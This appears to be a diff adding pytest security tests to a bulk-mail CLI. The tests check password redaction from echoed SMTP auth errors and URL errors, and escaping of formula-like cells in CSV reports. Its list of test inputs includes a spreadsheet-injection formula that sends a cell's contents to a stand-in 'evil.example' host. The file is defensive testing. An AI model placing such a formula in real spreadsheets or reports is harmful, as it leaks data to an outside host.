@@ -6,15 +6,20 @@ asserts on what the SMTP server received.
 
 from __future__ import annotations
 
+import base64
 import csv
 import os
+import re
 from collections.abc import Callable
 from pathlib import Path
+from typing import Any
 
 import pytest
+from aiosmtpd.smtp import AuthResult
 from typer.testing import CliRunner
 
 from mailblast.cli import app
+from mailblast.recipients import RecipientsFile
 from tests.servers import SmtpServer
 
 Server = Callable[..., SmtpServer]
@@ -349,3 +354,107 @@ def test_includes_inside_the_folder_work(tmp_path: Path, smtp_server: Server) ->
     code, out = sent(tmp_path, server)
     assert code == 0, out
     assert "-- the team Ann" in server.received[0].message.get_content()
+
+
+# 7. a server that echoes the AUTH line ---------------------------------------------------------------
+
+PASSWORD = "s3cret-Horse-battery"
+
+
+class EchoingAuthServer(SmtpServer):
+    """Refuses every login with a 535 that repeats what it was sent, as some servers do."""
+
+    def _authenticate(
+        self, server: Any, session: Any, envelope: Any, mechanism: str, data: Any
+    ) -> AuthResult:
+        login, password = data.login, data.password
+        plain = base64.b64encode(b"\0" + login + b"\0" + password).decode()
+        echo = (
+            f"535 5.7.8 Authentication failed: AUTH {mechanism} {plain} "
+            f"({base64.b64encode(password).decode()}, {password.decode()}, part {plain[6:-2]})"
+        )
+        return AuthResult(success=False, handled=False, message=echo)
+
+
+def test_an_echoed_password_never_leaves(tmp_path: Path) -> None:
+    server = EchoingAuthServer(auth={"mailer": PASSWORD}).start()
+    try:
+        campaign(
+            tmp_path, "From: a@example.com\nSubject: s\n\nbody\n", [{"email": VICTIM}, {"email": "b@x.org"}]
+        )
+        url = f"smtp://mailer@{server.url.split('//')[1]}"
+        env = {"MAILBLAST_SMTP_PASSWORD": PASSWORD}
+        code, out = run(
+            tmp_path, "send", "people.csv", "-t", "t.txt", "--smtp", url, "--report", "r.csv", env=env
+        )
+    finally:
+        server.stop()
+    assert code == 3, out
+    assert "535 5.7.8 Authentication failed" in out and "[redacted]" in out
+    stored = [
+        (tmp_path / "r.csv").read_bytes(),
+        *(p.read_bytes() for p in tmp_path.glob("people.csv.mailblast*")),
+    ]
+    assert "[redacted]" in stored[0].decode()
+    raw = PASSWORD.encode()
+    forms = [raw, base64.b64encode(raw), base64.b64encode(b"\0mailer\0" + raw)]
+    forms += [base64.b64encode(b"\0" * k + raw)[4:-4] for k in range(3)]  # any alignment inside a blob
+    for form in forms:
+        assert form.decode() not in out, form
+        for data in stored:
+            assert form not in data, form
+
+
+# 8. a password-looking part of a URL ---------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("url", ["smtp://user:secretpw", "smtp://user:secretpw/", "smtps://host:secretpw@"])
+def test_url_errors_never_repeat_what_follows_the_user(tmp_path: Path, url: str) -> None:
+    campaign(tmp_path, "From: a@example.com\nSubject: s\n\nbody\n", [{"email": VICTIM}])
+    code, out = run(tmp_path, "send", "people.csv", "-t", "t.txt", "--smtp", url)
+    assert code == 2, out
+    assert "secretpw" not in out
+
+
+# 9. formulas in the report ---------------------------------------------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+2",
+    "-3",
+    "@SUM(A1:A9)",
+    "\tTab",
+    "\rCR",
+    "'q",
+]
+
+
+def test_report_cells_never_run_as_formulas_and_read_back_as_they_were(
+    tmp_path: Path, smtp_server: Server
+) -> None:
+    rows = [{"email": f"u{i}@example.com", "note": v, "@col": v} for i, v in enumerate(FORMULAS)]
+    campaign(tmp_path, "From: a@example.com\nSubject: s\n\n{{ note }}|{{ row['@col'] }}|\n", rows)
+    server = smtp_server(reject_recipients=lambda address: True)
+    code, out = sent(tmp_path, server, report="failed.csv")
+    assert code == 1, out
+    cells = list(csv.reader((tmp_path / "failed.csv").open(encoding="utf-8", newline="")))
+    assert cells[0][:3] == ["email", "note", "'@col"]
+    for line in cells[1:]:
+        for cell in line:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+        assert line[1] == line[2] == "'" + FORMULAS[cells.index(line) - 1]
+    # the report is a recipients file: read back, every value is what it was
+    fixed = smtp_server()
+    code, out = run(tmp_path, "send", "failed.csv", "-t", "t.txt", "--smtp", fixed.url, "--no-journal")
+    assert code == 0, out
+
+    def lines(text: str) -> str:  # a bare CR in a text body reaches the reader as a line break
+        return re.sub(r"[\r\n]+", "\n", text).strip("\n")
+
+    bodies = sorted(lines(r.message.get_content()) for r in fixed.received)
+    assert bodies == sorted(lines(f"{v}|{v}|") for v in FORMULAS)
+    report = RecipientsFile(tmp_path / "failed.csv")
+    assert report.format.header[:3] == ("email", "note", "@col")
+    assert [
+        (r.recipient.fields["note"], r.recipient.fields["@col"]) for r in report.rows() if r.recipient
+    ] == [(v, v) for v in FORMULAS]
